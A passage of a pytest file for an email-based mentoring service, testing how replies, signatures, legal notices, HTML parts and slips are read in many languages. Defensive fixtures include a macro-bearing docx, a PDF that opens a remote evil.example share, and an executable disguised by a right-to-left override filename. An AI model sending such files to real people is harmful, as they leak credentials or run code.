    "with the marks of initials": ("asked", (), jon_says("ME> Reply ACCEPT or REJECT.\n\nLet me think about it."), not_accepted),
    "with bars for a quotation": ("asked", (), jon_says("| ACCEPT\n| Mia would like you as her mentor.\n\nWhich clinic is it?"), not_accepted),
    "answers within, in another colour": ("asked", (), jon_says("My answers are below in red."), not_accepted),
    "below a list's footer": ("asked", (), jon_says("ACCEPT\n_______________________________________________\nPharmacists mailing list\nTo unsubscribe send END to list@pharmacists.example"), stands("AP")),
}  # fmt: skip


@grave("a yes that was none, because of how the mail is packed; or nobody hears of it")
@pytest.mark.parametrize("how", SHAPES)
def test_however_a_mail_is_packed_its_words_are_read_or_a_person_reads_it(how: str) -> None:
    """for-coordinators.md, why it is held: encrypted, or winmail.dat; reading-answers.md: lines that PGP puts around a signed text; faults.md 30."""
    tried(SHAPES[how], JON)


OVER = {
    "pl": "-----Oryginalna wiadomość-----\nOd: Mentor Exchange <{0}>\nWysłano: poniedziałek, 2 marca 2026 16:00\nDo: Jon Berg\nTemat: Would you mentor Mia Okafor?\n\n",
    "da": "Fra: Mentor Exchange <{0}>\nSendt: 2. marts 2026 16:00\nTil: Jon Berg\nEmne: Would you mentor Mia Okafor?\n\n",
    "no": "-----Opprinnelig melding-----\nFra: Mentor Exchange <{0}>\nSendt: mandag 2. mars 2026 16:00\nTil: Jon Berg\nEmne: Would you mentor Mia Okafor?\n\n",
    "fi": "Lähettäjä: Mentor Exchange <{0}>\nLähetetty: maanantai 2. maaliskuuta 2026 16.00\nVastaanottaja: Jon Berg\nAihe: Would you mentor Mia Okafor?\n\n",
    "hu": "Feladó: Mentor Exchange <{0}>\nElküldve: 2026. március 2., hétfő 16:00\nCímzett: Jon Berg\nTárgy: Would you mentor Mia Okafor?\n\n",
    "tr": "Kimden: Mentor Exchange <{0}>\nGönderildi: 2 Mart 2026 Pazartesi 16:00\nKime: Jon Berg\nKonu: Would you mentor Mia Okafor?\n\n",
    "pt": "De: Mentor Exchange <{0}>\nEnviado: segunda-feira, 2 de março de 2026 16:00\nPara: Jon Berg\nAssunto: Would you mentor Mia Okafor?\n\n",
    "sv": "Från: Mentor Exchange <{0}>\nSkickat: den 2 mars 2026 16:00\nTill: Jon Berg\nÄmne: Would you mentor Mia Okafor?\n\n",
}


@grave("words of our own letter are taken for an answer, or an answer above it is lost")
@pytest.mark.parametrize("language", OVER)
def test_our_letter_below_an_answer_without_marks_is_no_word_of_it(language: str) -> None:
    """CHANGELOG: answer above, below or inside the quotation, from any mail program in 38 languages."""

    def says(words: str) -> Step:
        return lambda w: jon_says(
            f"{words}\n\n{OVER[language].format(ADDRESS)}{see(question_to_jon(w)).text}"
        )(w)

    tried(("asked", (), says("Let me think about it."), not_accepted), JON)
    tried(("asked", (), says("Yes, happy to."), stands("A")), JON)


CVS: dict[str, tuple[str, bytes]] = {
    "with a macro of another name": ("cv.docx", docx({"word/vbaData.xml": b"<x/>", "word/VBAPROJECT.BIN": b"\xd0\xcf\x11\xe0" + bytes(600)})),
    "a page with a link to a file": ("cv.pdf", pdf(b"<</Type/Catalog/OpenAction<</S/GoToR/F(\\\\\\\\evil.example\\\\share\\\\x)>>>>")),
    "with letters that turn its name around": ("\u202egpj.vc.pdf", b"MZ" + bytes(2000)),
}  # fmt: skip


@grave("a file that acts when it is opened goes to a mentor under our name")
@pytest.mark.parametrize("how", CVS)
def test_a_file_that_acts_goes_to_nobody(how: str) -> None:
    """Decision 9: what is refused; FAULTS 60."""
    name, content = CVS[how]
    world = fresh("office")
    signs_up_with(world, [(name, content, "octet-stream")])
    assert not files_in(lee_is_introduced(world))


# =========================== 10. lines below a name ======================================================================================

BELOW: dict[str, Case] = {
    "tylko jeśli": ("asked", (), jon_says("ACCEPT\n\nPozdrawiam\nJon Berg\n\nTylko jeśli szef się zgodzi"), not_accepted),
    "solo se": ("asked", (), jon_says("ACCEPT\n\nCordiali saluti\nJon Berg\n\nSolo se Mia è d'accordo"), not_accepted),
    "niet voor Mia": ("asked", (), jon_says("ACCEPT\n\nGroeten\nJon\nniet voor Mia"), not_accepted),
    "kun hvis": ("asked", (), jon_says("ACCEPT\n\nVenlig hilsen\nJon Berg\n\nKun hvis min chef siger ja"), not_accepted),
    "bare hvis": ("asked", (), jon_says("ACCEPT\n\nHilsen\nJon\nBare hvis hun kan vente"), not_accepted),
    "só se": ("asked", (), jon_says("ACCEPT\n\nCumprimentos\nJon Berg\n\nSó se for em maio"), not_accepted),
    "om hon": ("asked", (), jon_says("ACCEPT\n\nVänliga hälsningar\nJon\n\nom hon kan vänta"), not_accepted),
    "pas avant": ("asked", (), jon_says("ACCEPT\n\nCordialement\nJon Berg\n\npas avant 2029"), not_accepted),
    "en Turkish": ("asked", (), jon_says("ACCEPT\n\nSaygılarımla\nJon Berg\n\nHenüz değil, lütfen bekleyin."), not_accepted),
    "in Finnish": ("asked", (), jon_says("ACCEPT\n\nYstävällisin terveisin\nJon Berg\n\nEi vielä, odottakaa."), not_accepted),
    "in Hungarian": ("asked", (), jon_says("ACCEPT\n\nÜdvözlettel\nJon Berg\n\nMég nem, kérem várjanak."), not_accepted),
    "a yes in French, and a no below": ("asked", (), jon_says("Oui, avec plaisir.\n\nCordialement,\nJon Berg\nPharmacien\n\nFinalement non"), not_accepted),
    "below a mark of a signature": ("asked", (), jon_says("ACCEPT\n\n-- \nJon Berg\nPharmacist\n\nSorry, I take that back."), not_accepted),
    "below two addresses": ("asked", (), jon_says("ACCEPT\n\nJon Berg\nNorth Street 7\n12345 Leeds\n\nnot before May"), not_accepted),
    "a mentee's end": ("paired", (), writes(MIA, "END NOW", "END NOW\n\nPozdrawiam\nMia\n\nJednak nie"), together),
    "a mentee's goodbye": ("paired", (), writes(MIA, "LEAVE", "LEAVE\n\nHilsen\nMia\n\nVent litt"), is_member(MIA)),
    "a mentee's erasure": ("paired", (writes(MIA, "ERASE"),), answers(MIA, "confirm-erase", "YES\n\nSaluti\nMia\n\nNo, aspettate"), is_member(MIA)),
    "a mentee's request": ("office", (), writes(MIA, "REQUEST M-1001", "I would like to learn.\n\nPozdrawiam\nMia\n\nProszę jeszcze nie wysyłać"), lambda w: "request" not in letter_names(got(w, JON))),
    "a cry below her name, in Polish": ("paired", (), writes(MIA, "STATUS", "STATUS\n\nPozdrawiam\nMia\n\nJon mnie uderzył, zebra"), heard_at_once),
    "a cry below her name, in Swedish": ("paired", (), answers(MIA, "introduction-mentee", "Hej Jon, tack för idag!\n\nHälsningar\nMia\n\nJon slog mig, zebra"), heard_at_once),
    "a cry below the mark of a signature": ("paired", (), writes(MIA, "STATUS", "STATUS\n\n-- \nMia Okafor\nHe hit me, zebra"), heard_at_once),
    "a cry after a mobile's line": ("paired", (), writes(MIA, "STATUS", "STATUS\n\nSent from my iPhone\n\nHe hit me, zebra"), heard_at_once),
    "a cry in the line of an app": ("paired", (), writes(MIA, "STATUS", "STATUS\n\nGet Outlook for iOS, he hit me, zebra"), heard_at_once),
    "a coordinator's, in Dutch": ("paired", (), writes(CARLA, "Some things", "END REL-1\n\nGroeten\nCarla\n\nNog niet, eerst Dan vragen"), together),
    "a coordinator's, in Polish": ("paired", (), writes(CARLA, "Some things", "END REL-1\n\nPozdrawiam\nCarla\n\nJednak nie"), together),
}  # fmt: skip


@grave(
    "somebody is introduced, parted or erased against what stands below a name, or a cry there is read by nobody"
)
@pytest.mark.parametrize("how", BELOW)
def test_what_stands_below_a_name_counts_in_other_languages(how: str) -> None:
    """CHANGELOG: below your name a line without a full stop counts as well; a danger reaches a person whatever the mail does."""
    tried(BELOW[how], CARLA if "coord" in how else of(BELOW[how]))


ORDINARY = (
    "Pozdrawiam serdecznie\nJon Berg\nmgr farm., kierownik apteki",
    "Met vriendelijke groet\nJon Berg\nZiekenhuisapotheker",
    "Cordiali saluti\nDott. Jon Berg\nFarmacista ospedaliero",
    "Med vänlig hälsning\nJon Berg\nApotekare",
    "Med venlig hilsen\nJon Berg\nCand.pharm.",
    "Atenciosamente\nJon Berg\nFarmacêutico hospitalar",
    "Vennlig hilsen\nJon Berg\nSykehusfarmasøyt",
    "Best\nJon Berg\n\nGet Outlook for Android",
    "Jon Berg\nSent from Proton Mail for iOS",
    "Kind regards,\n\nJon Berg, PharmD, MBA, FASHP\nDirector of Pharmacy\nT: (555) 010-4477 | F: (555) 010-4478\njon@hospital.example",
    "Best\nJon\n\nBook time with me: https://calendar.example/jon",
    "LG\nJon",
    "Cheers, J.",
)


@grave("plain: a mentor's yes does not count for his signature")
@pytest.mark.parametrize("signature", ORDINARY)
def test_an_ordinary_signature_of_other_languages_takes_nothing_from_a_yes(signature: str) -> None:
    """reading-answers.md: the end may have names, degrees, the line of a department."""
    tried(("asked", (), jon_says(f"ACCEPT\n\n{signature}"), stands("A")), JON)


# =========================== 11. legal notices ===========================================================================================

NOTICES = (
    "This e-mail and any attachments are confidential and intended solely for the addressee. If you have received it in error, please notify the sender and delete it.",
    "Diese E-Mail enthält vertrauliche Informationen. Wenn Sie nicht der richtige Adressat sind, informieren Sie bitte sofort den Absender und vernichten Sie diese Mail.",
    "Ce message est confidentiel. Si vous n'êtes pas le destinataire, merci de le supprimer et d'en avertir l'expéditeur.",
    "Este mensaje es confidencial y va dirigido únicamente a su destinatario. Si lo ha recibido por error, le rogamos que lo elimine.",
    "Questo messaggio è riservato. Se non siete il destinatario, vi preghiamo di eliminarlo e di avvisare il mittente.",
    "De informatie in dit bericht is vertrouwelijk. Indien u niet de geadresseerde bent, wordt u verzocht dit bericht te verwijderen.",
    "Denna e-post kan innehålla konfidentiell information. Om du inte är rätt mottagare, vänligen radera meddelandet.",
    "Esta mensagem é confidencial. Se a recebeu por engano, por favor elimine-a e avise o remetente.",
    "Niniejsza wiadomość jest poufna. Jeżeli nie są Państwo jej adresatem, prosimy o jej usunięcie.",
    "Denne e-mail er fortrolig. Hvis du ikke er den rette modtager, bedes du slette den.",
    "Denne e-posten er konfidensiell. Hvis du ikke er rett mottaker, vennligst slett den.",
)


@grave("plain: a yes or a coordinator's command does not count for the notice that a server adds")
@pytest.mark.parametrize("notice", NOTICES)
def test_a_notice_takes_nothing_from_a_yes_or_a_command(notice: str) -> None:
    """reading-answers.md: a lawyer's paragraph is taken from the answer; for-coordinators.md, what a line must look like."""
    tried(("asked", (), jon_says(f"ACCEPT\n\nBest\nJon Berg\n\n{notice}"), stands("A")), JON)
    tried(("paired", (), writes(CARLA, "Some things", f"END REL-1\n\nCarla\n\n{notice}"), parted), CARLA)


IN_NOTICES: dict[str, Case] = {
    "in French": ("paired", (), writes(MIA, "STATUS", "STATUS\n\nCe message est confidentiel. Il m'a frappée, zebra."), heard_at_once),
    "in Italian": ("paired", (), writes(MIA, "STATUS", "STATUS\n\nQuesto messaggio è riservato. Mi ha picchiata, zebra."), heard_at_once),
    "in Polish": ("paired", (), writes(MIA, "STATUS", "STATUS\n\nTa wiadomość jest poufna. On mi grozi, zebra."), heard_at_once),
    "in Dutch": ("paired", (), writes(MIA, "STATUS", "STATUS\n\nDit bericht is vertrouwelijk. Hij heeft mij geslagen, zebra."), heard_at_once),
    "in the midst of a whole notice": ("paired", (), writes(MIA, "STATUS", "STATUS\n\nThis e-mail is confidential and intended solely for the addressee. Jon threatens me, zebra. If you have received it in error, please delete it."), heard_at_once),
    "below a whole notice": ("paired", (), writes(MIA, "STATUS", f"STATUS\n\n{NOTICES[0]}\nHe hit me, zebra."), heard_at_once),
    "beside words for him": ("paired", (), answers(MIA, "introduction-mentee", "Dear Jon,\nwould you like to meet on Monday?\nMia\n\nThis message is confidential: he hit me, zebra."), heard_at_once),
    "of a stranger": ("paired", (), writes("zoe@far.example", "mentoring", "Privileged and confidential. Jon Berg threatens my sister Mia, zebra."), heard_at_once),
    "a no in it, of a mentor": ("asked", (), jon_says("ACCEPT\n\nThis e-mail is confidential and intended solely for the addressee. I do not accept yet. If you have received it in error, please delete it."), not_accepted),
    "a condition in it, in German": ("asked", (), jon_says("ZUSAGE\n\nVertraulich: nur wenn mein Chef zustimmt."), not_accepted),
    "a condition in it, in French": ("asked", (), jon_says("ACCEPT\n\nCe message est confidentiel, je n'accepte que si elle attend."), not_accepted),
    "a slip in it, beside an end": ("paired", (), writes(MIA, "END NOW", "END NOW\n\nThis email is confidential. I wrote it by mistake."), together),
    "another name in it": ("asked", (), jon_says("ACCEPT\n\nThis email is confidential and for Lea Stone, not for Mia."), not_accepted),
    "a command in it": ("paired", (), writes(MIA, "", "STATUS\n\nThis e-mail is confidential. If you are not the addressee:\nEND NOW"), anything),
    "a yes in it alone": ("asked", (), jon_says("This e-mail is confidential. Yes, I accept."), stands("AP")),
    "a no in it alone": ("asked", (), jon_says("This e-mail is confidential. Unfortunately I have to decline."), stands("RP")),
}  # fmt: skip


@grave("a cry, a no or a condition is dropped as a part of a lawyer's paragraph")
@pytest.mark.parametrize("how", IN_NOTICES)
def test_what_is_typed_in_a_legal_notice_is_read(how: str) -> None:
    """CHANGELOG: what you type in or below a legal notice is read where it tells of danger or takes something back."""
    tried(IN_NOTICES[how], of(IN_NOTICES[how]))


# =========================== 12. mails of two parts ======================================================================================


ALIKE: dict[str, tuple[str, str]] = {
    # the same words, as programs write them twice
    "curly marks": ("Yes, I'd love to.\n\nJon", "<p>Yes, I’d love to.</p><p>Jon</p>"),
    "a face": ("ACCEPT :-)\n\nJon", "<p>ACCEPT 🙂</p><p>Jon</p>"),
    "a link's address beside it": (f"ACCEPT\n\nJon Berg\nOur ward <{LINK}>", f"<p>ACCEPT</p><p>Jon Berg<br><a href='{LINK}'>Our ward</a></p>"),
    "footnotes of links": (f"ACCEPT\n\nJon Berg\nOur ward [1]\n\n[1] {LINK}", f"<p>ACCEPT</p><p>Jon Berg<br><a href='{LINK}'>Our ward</a></p>"),
    "stars for bold": ("*ACCEPT*\n\n*Jon Berg*\nPharmacist", "<p><b>ACCEPT</b></p><p><b>Jon Berg</b><br>Pharmacist</p>"),
    "a picture in the signature": ("ACCEPT\n\nJon Berg\n[cid:image001.png@01D9]", "<p>ACCEPT</p><p>Jon Berg</p><img src='cid:image001.png@01D9' alt='Hospital logo'>"),
    "a picture's words": ("ACCEPT\n\nJon Berg\n[Logo, company name Description automatically generated]", "<p>ACCEPT</p><p>Jon Berg</p><img src='cid:1' alt='Logo, company name Description automatically generated'>"),
    "blanks that do not break": ("Yes, happy to mentor Mia.", "<p>Yes,&nbsp;happy to&nbsp;mentor&nbsp;Mia.</p>"),
    "lines broken at the edge": ("Yes, I would be very happy to mentor Mia. I am free on Mondays and on\nTuesdays.", "<div>Yes, I would be very happy to mentor Mia. I am free on Mondays and on Tuesdays.</div>"),
    "a style's sheet": ("ACCEPT", "<html><head><style>p{color:red}</style><title>Re: mentoring</title></head><body><p>ACCEPT</p></body></html>"),
    "a table": ("ACCEPT\n\nJon Berg  Pharmacist", "<table><tr><td>ACCEPT</td></tr><tr><td>Jon Berg</td><td>Pharmacist</td></tr></table>"),
    "an umlaut in two ways": ("Ja, ich übernehme Mia gerne.", "<p>Ja, ich u&#776;bernehme Mia gerne.</p>"),
}  # fmt: skip


@grave("plain: a yes is asked about because a program wrote it twice in its own way")
@pytest.mark.parametrize("how", ALIKE)
def test_two_parts_that_say_the_same_are_one_answer(how: str) -> None:
    """CHANGELOG: where the two parts say different things, a person reads the mail; these say the same."""
    tried(("asked", (), jon_two(*ALIKE[how]), stands("A")), JON)


UNLIKE: dict[str, Case] = {
    "a no only in the page, in Polish": ("asked", (), jon_two("Tak.", "<p>Tak.</p><p>Ale dopiero za dwa lata.</p>"), not_accepted),
    "a no below the name in the page": ("asked", (), jon_two("ACCEPT\n\nJon", "<p>ACCEPT</p><p>Jon</p><p>Not yet</p>"), not_accepted),
    "crossed out in the page": ("asked", (), jon_two("ACCEPT I cannot decide yet.", "<p><del>ACCEPT</del> I cannot decide yet.</p>"), not_accepted),
    "cut off in the text": ("asked", (), jon_two("I accept", "<p>I accept nothing of the kind.</p>"), not_accepted),
    "another name in the page": ("asked", (), jon_two("Yes to her.", "<p>Yes to Lea.</p>"), not_accepted),
    "a text of a template": ("asked", (), jon_two("Your mail program cannot show this. ACCEPT", "<p>What is this about?</p>"), not_accepted),
    "a page of a template": ("asked", (), jon_two("REJECT", "<p>Please turn on scripts.</p>"), stands("PR")),
    "an end only in the page": ("paired", (), mia_two("STATUS", "<p>STATUS</p><p>END NOW</p>"), anything),
    "another address in the page": ("paired", (), mia_two(f"CHANGE ADDRESS {MIA_HOME}", "<p>CHANGE ADDRESS eve@evil.example</p>"), lambda w: not got(w, EVE) or "confirm-address" not in letter_names(got(w, EVE))),
    "another mentor in the page": ("office", (), mia_two("REQUEST M-1001", "<p>REQUEST M-1003</p>"), lambda w: len(request_states(w)) <= 1 and not ([m for m in got(w, JON) if m.letter == "request"] and [m for m in got(w, ADA) if m.letter == "request"])),
    "a cry in the page, beside a mark": ("paired", (days(22),), lambda w: in_two(w, MIA, "4", f"<p>4</p><p>{CRY}</p>", thread=last(w, "check-in", MIA)), heard_at_once),
    "a cry in the page, beside words for him": ("paired", (), lambda w: in_two(w, MIA, "Dear Jon,\nwould you like to meet on Monday?", f"<p>Dear Jon,<br>would you like to meet on Monday?</p><p>{CRY}</p>", thread=last(w, "introduction-mentee", MIA)), heard_at_once),
    "a cry in a picture's words": ("paired", (), mia_two("STATUS", f"<p>STATUS</p><img src='cid:1' alt='{CRY}'>"), anything),
    "a cry in white": ("paired", (), mia_two("STATUS", f"<p>STATUS</p><p style='color:white'>{CRY}</p>"), anything),
    "a cry in the text alone, in German": ("paired", (), mia_two("STATUS\n\nEr hat mich geschlagen, zebra.", "<p>STATUS</p>"), heard_at_once),
    "a cry in a page below a placeholder in Swedish": ("paired", (), mia_two("Det här meddelandet är i HTML-format.", f"<p>STATUS</p><p>{CRY}</p>"), heard_at_once),
    "a coordinator's commands differ": ("paired", (), lambda w: in_two(w, CARLA, "STATUS", "<p>END REL-1</p>"), together),
    "a coordinator's doubt in the page": ("paired", (), lambda w: in_two(w, CARLA, "END REL-1", "<p>END REL-1</p><p>Or should we wait?</p>"), together),
    "a coordinator's answer differs": ("paired", (writes(LEA, "A thing", NEEDS_A_PERSON),), lambda w: in_two(w, CARLA, f"ANSWER {waiting(w)[-1]}\n\nAll is well.", f"<p>ANSWER {waiting(w)[-1]}</p><p>All is well.</p><p>(Dan: between us, she is impossible, otter.)</p>"), anything),
    "erase all, yes and no": ("paired", (writes(MIA, "ERASE"),), lambda w: in_two(w, MIA, "YES", "<p>NO</p>", thread=last(w, "confirm-erase", MIA)), is_member(MIA)),
    "erase all, yes and more": ("paired", (writes(MIA, "ERASE"),), lambda w: in_two(w, MIA, "YES", "<p>YES</p><p>but first send me my data, please, and wait until I have it</p>", thread=last(w, "confirm-erase", MIA)), is_member(MIA)),
    "a form of two": ("office", (), lambda w: in_two(w, NOA, "SIGN UP MENTEE\n\nName: Noa Weiss\nPractice areas: Critical care\nGoals: To learn.", "<p>SIGN UP MENTOR</p><p>Name: Noa Weiss<br>Practice areas: Critical care<br>Career path: Long.</p>"), lambda w: not member(w, NOA) or member(w, NOA)["roles"] != ["mentor", "mentee"]),
    "three parts, for a watch": ("asked", (), jon_by_hand("multipart/alternative; boundary=c", "--c\nContent-Type: text/plain\n\nACCEPT\n--c\nContent-Type: text/watch-html\n\n<b>REJECT</b>\n--c\nContent-Type: text/html\n\n<p>ACCEPT</p>\n--c--\n"), stands("AP")),
    "three parts, two pages": ("asked", (), jon_by_hand("multipart/alternative; boundary=c", "--c\nContent-Type: text/plain\n\nACCEPT\n--c\nContent-Type: text/html\n\n<p>ACCEPT</p>\n--c\nContent-Type: text/html\n\n<p>REJECT</p>\n--c--\n"), not_accepted),
    "related within": ("asked", (), jon_by_hand("multipart/alternative; boundary=c", "--c\nContent-Type: text/plain\n\nACCEPT\n--c\nContent-Type: multipart/related; boundary=r\n\n--r\nContent-Type: text/html\n\n<p>ACCEPT</p><p>only from 2029</p>\n--r\nContent-Type: image/png\nContent-Transfer-Encoding: base64\n\niVBORw0KGgo=\n--r--\n--c--\n"), not_accepted),
}  # fmt: skip


@grave("of a mail whose two parts differ the one that was not meant is done, or a cry in one of them is lost")
@pytest.mark.parametrize("how", UNLIKE)
def test_two_parts_that_differ_are_read_by_a_person(how: str) -> None:
    """CHANGELOG: where the HTML says more, it is read; where the two say different things, a person reads the mail before anything is done."""
    case = UNLIKE[how]
    tried(case, NOA if "form" in how else CARLA if "coord" in how else of(case))


# =========================== 13. subjects, slips, second thoughts ========================================================================


@grave("a pair is parted though the subject denies it or puts it off")
@pytest.mark.parametrize("subject", ["Nie wysyłać", "Jeszcze nie!", "Non ancora", "Prova, ignorate", "Nog even wachten", "Vergeet het maar", "Ainda não", "Esperem por favor", "Vänta med detta", "Ikke endnu", "Utkast", "Only if Jon agrees", "Hold on", "WIP", "For discussion only", "Après l'accord de Dan", "Erst nach Rücksprache", "After Easter", "Re-think", "Was wäre wenn"])  # fmt: skip
def test_a_subject_that_puts_it_off_in_other_languages_stops_the_commands(subject: str) -> None:
    """for-coordinators.md: a subject of your own that doubts stops the commands below it, and the transcript says so."""
    tried(("paired", (), writes(CARLA, subject, "END REL-1"), together), CARLA)


@grave("plain: an ordinary subject stops a command")
@pytest.mark.parametrize("subject", ["Zlecenia", "Opdrachten", "Kommandoer", "Wie besprochen", "Comme convenu", "According to plan", "Note for the program", "From Carla", "Notebook", "Wartung der Liste", "Notification", "REL-1 and more", "2 March", "Hello", "Bitte erledigen"])  # fmt: skip
def test_an_ordinary_subject_of_other_languages_stops_no_command(subject: str) -> None:
    """for-coordinators.md: the subject counts where the text has no command."""
    tried(("paired", (), writes(CARLA, subject, "END REL-1"), parted), CARLA)


SLIPS: dict[str, Case] = {
    "end, Polish": ("paired", (), writes(MIA, "END NOW", "END NOW\n\nPrzepraszam, pomyłka."), together),
    "end, Italian": ("paired", (), writes(MIA, "END NOW", "END NOW\n\nScusate, ho sbagliato pulsante."), together),
    "end, Dutch": ("paired", (), writes(MIA, "END NOW", "END NOW\n\nSorry, verkeerde knop."), together),
    "end, Danish": ("paired", (), writes(MIA, "END NOW", "END NOW\n\nUndskyld, forkert knap."), together),
    "end, should I": ("paired", (), writes(MIA, "END NOW", "END NOW\n\nOr should I talk to him first?"), together),
    "leave, Portuguese": ("paired", (), writes(MIA, "LEAVE", "LEAVE\n\nDesculpe, foi engano."), is_member(MIA)),
    "leave, Swedish": ("paired", (), writes(MIA, "LEAVE", "LEAVE\n\nFörlåt, fel knapp."), is_member(MIA)),
    "leave, Norwegian": ("paired", (), writes(MIA, "LEAVE", "LEAVE\n\nNei, vent, det var feil."), is_member(MIA)),
    "leave, not really": ("paired", (), writes(MIA, "LEAVE", "LEAVE\n\nJust kidding!"), is_member(MIA)),
    "back, Polish": ("asked", (), answers(MIA, "request-received", "WITHDRAW\n\nPrzepraszam, pomyliłam się."), stands("P")),
    "back, Dutch": ("asked", (), answers(MIA, "request-received", "WITHDRAW\n\nNee wacht, toch niet."), stands("P")),
    "back, Italian": ("asked", (), answers(MIA, "request-received", "WITHDRAW\n\nNo, non ritirarla!"), stands("P")),
    "back, Swedish": ("asked", (), answers(MIA, "request-received", "WITHDRAW\n\nOj, fel. Behåll den."), stands("P")),
    "back, if he says no": ("asked", (), answers(MIA, "request-received", "WITHDRAW\n\nif he says no"), stands("P")),
    "a request, Polish": ("office", (), writes(MIA, "REQUEST M-1001", "Proszę jeszcze nie wysyłać."), jon_not_asked),
    "a request, Italian": ("office", (), writes(MIA, "REQUEST M-1001", "Scusate, ho sbagliato. Non inviate."), jon_not_asked),
    "a request, Dutch": ("office", (), writes(MIA, "REQUEST M-1001", "Nog niet versturen a.u.b."), jon_not_asked),
    "a request, I meant Ada": ("office", (), writes(MIA, "REQUEST M-1001", "Oh, I meant Ada Lind."), jon_not_asked),
    "a request, a trial": ("office", (), writes(MIA, "REQUEST M-1001", "This is only a test."), jon_not_asked),
    "a renewal, Polish": ("paired", (days(160),), writes(MIA, "RENEW", "RENEW\n\nAlbo nie, muszę się zastanowić."), lambda w: row(w, "REL-1")["term"] == 1),
    "an address, a slip": ("paired", (), writes(MIA, f"CHANGE ADDRESS {MIA_HOME}", f"CHANGE ADDRESS {MIA_HOME}\n\nSorry, wrong button, please ignore."), lambda w: MIA in addresses(w)),
    "a break, a slip": ("paired", (), writes(MIA, "PAUSE", "PAUSE\n\nSorry, wrong button."), lambda w: w.standing(MIA) == "active" or bool(waiting(w))),
}  # fmt: skip


@grave("somebody is parted, gone or asked by a slip that is told beside it")
@pytest.mark.parametrize("how", SLIPS)
def test_a_slip_told_beside_a_command_in_other_languages_is_read_first(how: str) -> None:
    """flow.md: END and LEAVE with words below them that deny, doubt or ask are asked about; CHANGELOG: REQUEST and WITHDRAW with a slip beside are read by a person."""
    tried(SLIPS[how], MIA)


# =========================== 14. a NO to a question of ours ==============================================================================


def paused_unproven(no: str) -> Steps:
    return (
        writes(MIA, "LEAVE", proof=""),
        answers(MIA, "confirm", no, proof=""),
        answers(MIA, "confirm", "YES", proof=""),
    )


NOES = ("No, that was not me!", "Nein, das war ich nicht.", "Nie, to nie ja.", "Nee, dat was ik niet.", "No, non sono stata io.", "Não fui eu.", "Nej, det var inte jag.", "Nej, det var ikke mig.", "Nei, det var ikke meg.", "Ce n'était pas moi.", "No fui yo.", "NO\n\nBest\nMia", "It wasn't me.", "Somebody else wrote that.", "I did not write this", "Never!", "👎")  # fmt: skip


@grave("a member leaves though she said that it was not she who wrote")
@pytest.mark.parametrize("no", NOES)
def test_a_no_in_any_words_settles_was_it_you(no: str) -> None:
    """CHANGELOG: a NO to "Was it you?" settles the question: a YES after it does nothing; unclear words reach a person or are asked about."""
    world = fresh("office")
    begin = sent_so_far(world)
    steps = paused_unproven(no)
    plays(world, steps[:2])
    world.later(days=1)
    assert world.standing(MIA) == "active"
    heard = got(world, MIA, begin)[1:] or got(world, CARLA, begin)
    assert heard, "silence"
    if no not in ("👎", "Never!", "Somebody else wrote that.", "I did not write this"):
        plays(world, steps[2:])
        world.later(hours=2)
        assert world.standing(MIA) == "active", how_it_is(world, begin)


NO_THEN: dict[str, tuple[str, Steps, Seen]] = {
    "a new address, from the old one": ("paired", (writes(MIA, f"CHANGE ADDRESS {MIA_HOME}"), writes(MIA, "No, that was not my wish, stop the change of address!"), answers(MIA_HOME, "confirm-address", "YES"), hours(2)), lambda w: MIA in addresses(w) or bool(waiting(w))),
    "a coordinator's preview, in Polish": ("paired", (orders(f"ERASE {LEA}"), lambda w: w.reply(CARLA, [m for m in got(w, CARLA) if "Shall this" in see(m).subject][-1], "Nie!"), lambda w: says_yes(w), hours(2)), is_member(LEA)),
    "the no and the yes in one minute": ("office", (writes(MIA, "LEAVE", proof=""), lambda w: (w.drop(MIA, "Re: x", "NO", to=reply_address(last(w, "confirm", MIA)), proof=""), w.drop(MIA, "Re: x", "YES", to=reply_address(last(w, "confirm", MIA)), proof=""), w.work()), hours(2)), is_member(MIA)),
    "the yes, then the no": ("office", (writes(MIA, "PAUSE", proof=""), answers(MIA, "confirm", "YES", proof=""), answers(MIA, "confirm", "NO, that was not me", proof=""), days(1)), lambda w: bool(got(w, CARLA))),
    "a no, and a cry": ("paired", (writes(MIA, "LEAVE", proof=""), answers(MIA, "confirm", f"NO! Jon has my password. {CRY}", proof=""), hours(2)), lambda w: heard_at_once(w) and w.standing(MIA) == "active"),
    "shall she still be yours, no and then yes": ("asked", (days(16), jon_says("ACCEPT"), answers(MIA, "late-offer", "NO"), answers(MIA, "late-offer", "YES"), hours(2)), lambda w: introduced(w, MIA) <= 1),
    "WAIT, no and then yes": ("asked", (jon_says("Yes, but not before 1 May 2026."), lambda w: w.reply(MIA, got(w, MIA)[-1], "WITHDRAW"), lambda w: w.reply(MIA, got(w, MIA)[-2], "WAIT"), hours(2)), lambda w: request_states(w) == "W"),
}  # fmt: skip


@grave("what somebody has said not to want is done all the same, or nobody reads a cry beside it")
@pytest.mark.parametrize("how", NO_THEN)
def test_a_no_is_not_overruled_by_a_later_yes_of_the_same_question(how: str) -> None:
    """CHANGELOG: a NO to "Was it you?", or to a new address, settles the question."""
    kind, steps, seen = NO_THEN[how]
    world = fresh(kind)
    plays(world, steps)
    assert seen(world), how_it_is(world)


# =========================== 15. greetings ===============================================================================================

GREETINGS: dict[str, Case] = {
    "Polish": ("asked", (), jon_says("Szanowny Mentor Exchange,\n\nACCEPT"), stands("A")),
    "Dutch": ("asked", (), jon_says("Beste Mentor Exchange,\n\nACCEPT"), stands("A")),
    "Italian": ("asked", (), jon_says("Gentile Mentor Exchange,\n\nACCEPT"), stands("A")),
    "Swedish": ("asked", (), jon_says("Hej Mentor Exchange!\n\nACCEPT"), stands("A")),
    "Danish": ("asked", (), jon_says("Kære Mentor Exchange,\n\nREJECT"), stands("R")),
    "Norwegian": ("asked", (), jon_says("Hei Mentor Exchange,\n\nREJECT"), stands("R")),
    "Portuguese": ("asked", (), jon_says("Caro Mentor Exchange,\n\nREJECT"), stands("R")),
    "French": ("asked", (), jon_says("Cher Mentor Exchange,\n\noui, avec plaisir."), stands("A")),
    "a question in it": ("asked", (), jon_says("Dear Mentor Exchange, what happens if I say yes?"), not_accepted),
    "a condition in it": ("asked", (), jon_says("Dear Mentor Exchange, if she can wait until 2029:\n\nACCEPT"), not_accepted),
    "another mentee in it": ("asked", (writes(LEA, "REQUEST M-1001", "Me too, please."),), jon_says("Dear Mentor Exchange, about Lea Stone:\n\nACCEPT"), lambda w: request_states(w)[0] == "P"),
    "a cry in it": ("paired", (), writes(MIA, "STATUS", "Dear Mentor Exchange, Jon hit me, zebra.\n\nSTATUS"), heard_at_once),
